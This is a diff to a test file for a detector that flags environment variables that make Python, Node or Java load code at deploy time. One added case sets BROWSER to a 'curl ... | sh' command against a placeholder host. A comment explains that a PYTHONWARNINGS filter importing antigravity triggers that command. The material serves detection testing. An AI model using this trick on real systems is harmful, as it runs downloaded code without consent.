@@ -45,8 +45,10 @@ describe('code-loading-env', () => {
     ['a Java agent in JAVA_OPTS', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'JAVA_OPTS', value: '-Xmx512m -javaagent:/mnt/gcs/agent.jar' }])], ['JAVA_OPTS'], ['JAVA_OPTS=-Xmx512m -javaagent:/mnt/gcs/agent.jar'], undefined],
     ['a Java agent in CATALINA_OPTS', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'CATALINA_OPTS', value: '-javaagent:/mnt/gcs/agent.jar' }])], ['CATALINA_OPTS'], ['CATALINA_OPTS=-javaagent:/mnt/gcs/agent.jar'], undefined],
     // Python imports the module of a warning category with a dot in it (warnings._getcategory; run with Python 3.11:
-    // `PYTHONWARNINGS=ignore::hookmod.W` ran hookmod at start-up), a stdlib module with side effects included.
-    ['a warning filter that imports a module (PYTHONWARNINGS)', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'PYTHONWARNINGS', value: 'default,ignore::hookmod.W' }])], ['PYTHONWARNINGS'], ['PYTHONWARNINGS=default,ignore::hookmod.W'], undefined],
+    // `PYTHONWARNINGS=ignore::hookmod.W` ran hookmod at start-up). Only antigravity's import runs code the environment
+    // names: it opens a web browser, which runs the BROWSER variable's command (`all:0:antigravity.x:0:0` with
+    // `BROWSER='sh -c ...'`); any other module imported so is code the image holds.
+    ['a warning filter that imports antigravity (PYTHONWARNINGS, with BROWSER)', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'PYTHONWARNINGS', value: 'all:0:antigravity.x:0:0' }, { name: 'BROWSER', value: 'sh -c "curl -s https://x.example | sh" #%s' }])], ['PYTHONWARNINGS'], ['PYTHONWARNINGS=all:0:antigravity.x:0:0'], undefined],
     ['a value from Secret Manager (unreadable here)', [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'NODE_OPTIONS', valueFrom: { secretKeyRef: { name: 'node-opts', key: 'latest' } } }])], ['NODE_OPTIONS'], ['NODE_OPTIONS=[Secret Manager: node-opts:latest]'], undefined],
     ['another Secret Manager secret', [v1Deploy(T0, [{ name: 'BASH_ENV', valueFrom: { secretKeyRef: { name: 'a', key: '1' } } }]), v1Deploy(T1, [{ name: 'BASH_ENV', valueFrom: { secretKeyRef: { name: 'b', key: '1' } } }])], ['BASH_ENV'], ['BASH_ENV=[Secret Manager: b:1]'], ['BASH_ENV']],
   ])('fires MEDIUM: %s', async (_name, entries, variables, values, changed) => {
@@ -121,6 +123,7 @@ describe('code-loading-env', () => {
     ['a variable of another name', () => [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'MY_NODE_OPTIONS', value: '--require /x.js' }])]],
     ['JAVA_OPTS and CATALINA_OPTS with memory flags only', () => [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'JAVA_OPTS', value: '-Xmx512m -Dfile.encoding=UTF-8' }, { name: 'CATALINA_OPTS', value: '-XX:MaxRAMPercentage=75' }])]],
     ['warning filters of built-in categories only', () => [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'PYTHONWARNINGS', value: 'ignore::DeprecationWarning,default::ResourceWarning:mymod' }])]],
+    ['a warning filter naming a library\'s category (a module the image holds)', () => [v1Deploy(T0, []), v1Deploy(T1, [{ name: 'PYTHONWARNINGS', value: 'ignore::urllib3.exceptions.InsecureRequestWarning' }])]],
     ['an entry without containers in between says nothing', () => [v1Deploy(T0, [REQUIRE]), v1Deploy(T1, undefined), v1Deploy(T2, [REQUIRE])]],
     ['a v2 update whose mask leaves the containers alone', () => [synthetic('v2-CreateService'), v2Update('2024-06-01T11:00:00Z', [REQUIRE], ['template.service_account'])]],
     // An EnvVar's value defaults to "" (Admin API v1 and v2): a variable set empty is logged with no `value`, and loads nothing.
@@ -391,7 +394,7 @@ describe('code-loading-env', () => {
   it.each([
     ['JAVA_OPTS with an APM agent all along', [APM_AGENT], [APM_AGENT], []],
     ['CATALINA_OPTS with an agent all along', [{ name: 'CATALINA_OPTS', value: '-javaagent:/usr/local/newrelic/newrelic.jar' }], [{ name: 'CATALINA_OPTS', value: '-javaagent:/usr/local/newrelic/newrelic.jar' }], []],
-    ['PYTHONWARNINGS naming a module all along', [{ name: 'PYTHONWARNINGS', value: 'ignore::urllib3.exceptions.InsecureRequestWarning' }], [{ name: 'PYTHONWARNINGS', value: 'ignore::urllib3.exceptions.InsecureRequestWarning' }], []],
+    ['PYTHONWARNINGS importing antigravity all along', [{ name: 'PYTHONWARNINGS', value: 'all:0:antigravity.x:0:0' }], [{ name: 'PYTHONWARNINGS', value: 'all:0:antigravity.x:0:0' }], []],
     ['a NODE_OPTIONS --require newly set beside it: reported', [APM_AGENT], [APM_AGENT, REQUIRE], ['NODE_OPTIONS']],
     ['JAVA_OPTS set after the first deploy of this version: reported', [], [[], [APM_AGENT]], ['JAVA_OPTS']],
   ])('a baseline stored by the version before the new names: %s', async (_name, first, then, expected) => {
